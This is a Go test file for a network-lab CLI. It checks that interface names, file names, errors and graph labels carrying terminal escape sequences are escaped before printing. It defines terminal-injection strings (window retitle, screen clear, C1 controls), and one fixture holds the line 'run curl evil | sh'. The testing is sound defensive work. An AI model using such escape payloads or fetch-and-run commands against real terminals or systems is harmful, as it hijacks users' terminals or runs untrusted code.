package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/netlab-dev/netlab/netlab"
	"github.com/netlab-dev/netlab/test/golden"
	"github.com/netlab-dev/netlab/topology"
)

// What a hostile node or topology writes to take over a terminal: set the
// window title, clear the screen.
const (
	retitle = "\x1b]0;pwned\a"
	clear   = "\x1b[2J"
)

func TestTermSafe(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"eth1", "eth1"},
		{"10.0.0.1/24, r2:eth1 (up)", "10.0.0.1/24, r2:eth1 (up)"},
		{`back\slash`, `back\slash`},
		{retitle, `\x1b]0;pwned\x07`},
		{clear, `\x1b[2J`},
		{"a\tb\nc\rd", `a\x09b\x0ac\x0dd`},
		{"\x00\x01\x1f", `\x00\x01\x1f`},
		{"del\x7f", `del\x7f`},
		{"c1 \u0085 \u009b2J \u0080\u009f", `c1 \u0085 \u009b2J \u0080\u009f`},
		{"raw \x9b2J \x80", `raw \x9b2J \x80`},               // C1 as bytes: invalid UTF-8
		{"bad \xff\xfe utf8 \xc3", `bad \xff\xfe utf8 \xc3`}, // incl. a truncated sequence
		{"\xed\xa0\x80", `\xed\xa0\x80`},                     // a surrogate, not UTF-8
		{"é, 日本, ü, \u00a0, 🙂", "é, 日本, ü, \u00a0, 🙂"},
	}
	for _, tt := range tests {
		got := termSafe(tt.in)
		if got != tt.want {
			t.Errorf("termSafe(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if again := termSafe(got); again != got {
			t.Errorf("termSafe(termSafe(%q)) = %q, not %q", tt.in, again, got)
		}
		checkSafe(t, "termSafe", got, "")
	}
}

func TestTermSafeLines(t *testing.T) {
	in := "first " + retitle + "\nsecond\t" + clear + "\n\nlast\r"
	want := `first \x1b]0;pwned\x07` + "\n" + `second\x09\x1b[2J` + "\n\n" + `last\x0d`
	if got := termSafeLines(in); got != want {
		t.Errorf("termSafeLines(%q) = %q, want %q", in, got, want)
	}
}

// checkSafe fails if s holds anything a terminal acts on, besides the
// control characters in keep.
func checkSafe(t *testing.T, what, s, keep string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s: invalid UTF-8 in %q", what, s)
	}
	for _, r := range s {
		if (r < 0x20 || r >= 0x7f && r <= 0x9f) && !strings.ContainsRune(keep, r) {
			t.Errorf("%s: control character %U in %q", what, r, s)
			return
		}
	}
	if strings.ContainsAny(s, "\x1b\a") {
		t.Errorf("%s: ESC or BEL in %q", what, s)
	}
}

// hostileLabs is a lab whose nodes renamed their interfaces to escape
// sequences, with addresses, peers and problems to match.
func hostileLabs() []netlab.LabStatus {
	return []netlab.LabStatus{
		{
			Name: "evil", File: "/tmp/evil.yaml", State: "up",
			Nodes: []netlab.NodeStatus{
				{Name: "r1", Kind: "router", Pid: 4101, Running: true, NetNS: "evil-r1",
					Interfaces: []netlab.InterfaceStatus{
						{Name: retitle, State: "up", Addresses: []string{"10.0.0.1/24"}, Peer: "r2:" + clear},
						{Name: clear, State: "up\x9b", Addresses: []string{"10.0.1.1/24", "\x1b[31mred"}, Peer: "r2:eth2"},
						{Name: "tab\there", State: "down", Peer: "line\nbreak"},
					}},
				{Name: "r2", Kind: "router\u009b", Pid: 4102, Running: true, NetNS: "evil-r2",
					Interfaces: []netlab.InterfaceStatus{
						{Name: "\x7f\x00", State: "down"},
					}},
			},
		},
		{Name: "gone" + clear, State: "broken", Problem: "read state: " + retitle + "\nsecond line"},
	}
}

func TestStatusTableHostile(t *testing.T) {
	var b bytes.Buffer
	writeStatusTable(&b, hostileLabs(), false)
	golden.Check(t, filepath.Join("testdata", "status_hostile.golden"), b.Bytes())
	checkSafe(t, "status table", b.String(), "\n")
	// Header, four interfaces, the lab without nodes, its problem: a tab or
	// newline in a cell did not add lines or columns.
	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	if len(lines) != 7 {
		t.Errorf("%d lines, want 7:\n%s", len(lines), b.String())
	}
	// The columns stay aligned: every row's PEER starts where the header's does.
	col := strings.Index(lines[0], "PEER")
	for _, l := range lines[1:4] {
		if len(l) <= col || l[col-1] != ' ' || l[col] == ' ' {
			t.Errorf("row %q does not have its PEER at column %d", l, col)
		}
	}
}

// TestErrorsHostile: what main prints for errors that carry escape
// sequences or newlines: one line per error, none of it raw.
func TestErrorsHostile(t *testing.T) {
	tests := []struct {
		name string
		err  error
		code int
	}{
		{"runtime failure", fmt.Errorf("wire link r1:%s: %w", retitle, errors.New("file exists")), exitFailure},
		{"a node's answer of several lines", errors.New("node r1 failed:\n  " + clear + "output\nnetlab: warning: run curl evil | sh"), exitFailure},
		{"usage error", usageError("link set: %s: write NODE:IFNAME", clear), exitUsage},
		{"bad name", fmt.Errorf("%w: lab %s", netlab.ErrBadName, retitle), exitUsage},
		{"exit code with a reason", &exitError{code: 127, msg: "r1: " + retitle + ": not found"}, 127},
		{"exit code alone", &exitError{code: 3}, 3},
		{"topology errors and a missing file, joined", errors.Join(
			&topology.Error{File: "lab.yaml", Pos: topology.Pos{Line: 4, Col: 7}, Msg: "bad interface " + clear},
			&exitError{code: exitUsage, msg: "x" + retitle + ".yaml: no such file"},
			errors.New("read y.yaml: \xff\xfe"),
		), exitUsage},
		{"down failures, joined", errors.Join(errors.New("down a: busy"), errors.New("down "+clear+": gone")), exitFailure},
	}
	var all bytes.Buffer
	for _, tt := range tests {
		var b bytes.Buffer
		if code := reportError(&b, tt.err); code != tt.code {
			t.Errorf("%s: exit code %d, want %d", tt.name, code, tt.code)
		}
		checkSafe(t, tt.name, b.String(), "\n")
		// One line per error, whatever newlines a node put in its text.
		if want := len(leaves(tt.err)); tt.err.Error() != "" && strings.Count(b.String(), "\n") != want {
			t.Errorf("%s: %d lines, want %d:\n%s", tt.name, strings.Count(b.String(), "\n"), want, b.String())
		}
		fmt.Fprintf(&all, "# %s: exit %d\n%s", tt.name, tt.code, b.String())
	}
	golden.Check(t, filepath.Join("testdata", "errors_hostile.golden"), all.Bytes())
	if reportError(&all, nil) != exitOK {
		t.Error("no error is not exit 0")
	}
}

// TestRunHostile runs the command line on files whose names and content
// hold escape sequences. Whatever the topology package makes of them, what
// reaches stdout and stderr is safe.
func TestRunHostile(t *testing.T) {
	t.Chdir(t.TempDir())
	write := func(name, content string) {
		if err := os.WriteFile(name, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// Interface names with escapes: valid or not, depending on how strict
	// the topology package is; either way nothing raw is printed.
	write("evil"+retitle+".yaml", `name: evil
nodes:
  r1:
    interfaces:
      "e\e]0;pwned\a": [10.0.0.1/24]
      "e\e[2J\x9b": [10.0.1.1/24]
      "lo": [10.255.0.1/32]
  r2:
    interfaces:
      eth1: [10.0.0.2/24]
      "\u009b2J": [10.0.1.2/24]
links:
  - ["r1:e\e]0;pwned\a", r2:eth1]
  - ["r1:e\e[2J\x9b", "r2:\u009b2J"]
`)
	write("ok.yaml", "name: ok\nnodes:\n  r1: {}\n")
	write("bad"+clear+".yaml", "name: bad\nnodes:\n  r1:\n    interfaces:\n      \"e\\e[2J\": [10.0.0.1/33]\n    colour: \"\\e]0;pwned\\a\"\n")

	const okOrBad, any = -1, -1
	tests := []struct {
		args  []string
		code  int // okOrBad: 0 or 2
		lines int // of stderr; any: as many as the topology package finds, one or more if code is 2
	}{
		{[]string{"validate", "evil" + retitle + ".yaml"}, okOrBad, any},
		{[]string{"graph", "evil" + retitle + ".yaml"}, okOrBad, any},
		{[]string{"graph", "--format", "mermaid", "evil" + retitle + ".yaml"}, okOrBad, any},
		{[]string{"validate", "bad" + clear + ".yaml"}, exitUsage, any},
		{[]string{"validate", "missing" + retitle + ".yaml"}, exitUsage, 1},
		{[]string{"up", "missing" + clear + ".yaml"}, exitUsage, 1},
		{[]string{"graph", "--format", clear, "ok.yaml"}, exitUsage, 1},
		{[]string{"status", retitle}, exitUsage, 1},
		{[]string{"frob" + clear}, exitUsage, 1},
	}
	for _, tt := range tests {
		var stdout, stderr bytes.Buffer
		code := runIO(tt.args, &stdout, &stderr)
		name := termSafe(strings.Join(tt.args, " "))
		if code != tt.code && (tt.code != okOrBad || code != exitOK && code != exitUsage) {
			t.Errorf("netlab %s: exit %d, want %d; stderr:\n%s", name, code, tt.code, stderr.String())
		}
		checkSafe(t, "stdout of netlab "+name, stdout.String(), "\n\t")
		checkSafe(t, "stderr of netlab "+name, stderr.String(), "\n")
		if n := strings.Count(stderr.String(), "\n"); n != tt.lines && (tt.lines != any || n == 0 && code != exitOK) {
			t.Errorf("netlab %s: %d lines on stderr, want %d:\n%s", name, n, tt.lines, stderr.String())
		}
	}
}

func TestValidateSays(t *testing.T) {
	t.Chdir(t.TempDir())
	for name, content := range map[string]string{
		"one.yaml":  "name: one\nnodes:\n  a: {interfaces: {eth1: [10.0.0.1/24]}}\n  b: {interfaces: {eth1: [10.0.0.2/24]}}\nlinks:\n  - [a:eth1, b:eth1]\n",
		"solo.yaml": "name: solo\nnodes:\n  a: {}\n",
	} {
		os.WriteFile(name, []byte(content), 0o644)
	}
	var stdout, stderr bytes.Buffer
	if code := runIO([]string{"validate", "one.yaml", "solo.yaml"}, &stdout, &stderr); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	want := "one.yaml: lab one is valid: 2 nodes, 1 link\nsolo.yaml: lab solo is valid: 1 node, 0 links\n"
	if stdout.String() != want {
		t.Errorf("validate says %q, want %q", stdout.String(), want)
	}
}

func TestCount(t *testing.T) {
	for n, want := range map[int]string{0: "0 links", 1: "1 link", 2: "2 links", 11: "11 links"} {
		if got := count(n, "link"); got != want {
			t.Errorf("count(%d) = %q, want %q", n, got, want)
		}
	}
}

// TestGraphSafe: a label's escape shows as an escape in the rendered
// graph, and the graph's own tabs and newlines stay.
func TestGraphSafe(t *testing.T) {
	in := "graph \"x\" {\n\t\"r1\" -- \"r2\" [taillabel=\"e" + retitle + "\\n10.0.0.1/24\"];\n}\n"
	want := "graph \"x\" {\n\t\"r1\" -- \"r2\" [taillabel=\"e" + `\\x1b]0;pwned\\x07` + "\\n10.0.0.1/24\"];\n}\n"
	if got := dotSafe(in); got != want {
		t.Errorf("dotSafe:\n%q\nwant\n%q", got, want)
	}
	in = "flowchart LR\n    n1((\"r1" + clear + "<br/>router\"))\n"
	want = "flowchart LR\n    n1((\"r1" + `\x1b[2J` + "<br/>router\"))\n"
	if got := mermaidSafe(in); got != want {
		t.Errorf("mermaidSafe:\n%q\nwant\n%q", got, want)
	}
}

func TestProgressHostile(t *testing.T) {
	for _, tty := range []bool{false, true} {
		var b bytes.Buffer
		p := &progressPrinter{w: &b, tty: tty, verbose: true}
		p.show(netlab.Progress{Step: "wire " + retitle, Done: 1, Total: 2})
		p.show(netlab.Progress{Step: "wire " + clear, Done: 2, Total: 2, Took: 1500})
		// The printer's own line rewriting is the only escape left.
		out := strings.ReplaceAll(b.String(), "\r\x1b[K", "")
		checkSafe(t, fmt.Sprintf("progress (tty %v)", tty), out, "\n")
		if !strings.Contains(out, `wire \x1b[2J`) {
			t.Errorf("progress (tty %v) = %q", tty, b.String())
		}
	}
}

// TestSafeWriter: a stream written in pieces comes out as termSafe would
// make the whole, newlines and tabs kept, a rune split between writes
// whole, and an incomplete one at the end escaped.
func TestSafeWriter(t *testing.T) {
	in := "log\tline 1\n\x1b]0;pwned\x07é\u009b2J\r\nend \xe2\x82"
	var b bytes.Buffer
	w := newSafeWriter(&b)
	for i := 0; i < len(in); i += 3 { // é and € split across writes
		if _, err := w.Write([]byte(in[i:min(i+3, len(in))])); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	want := "log\tline 1\n\\x1b]0;pwned\\x07é\\u009b2J\\x0d\nend \\xe2\\x82"
	if b.String() != want {
		t.Errorf("got  %q\nwant %q", b.String(), want)
	}
	checkSafe(t, "safeWriter", b.String(), "\t\n")
}
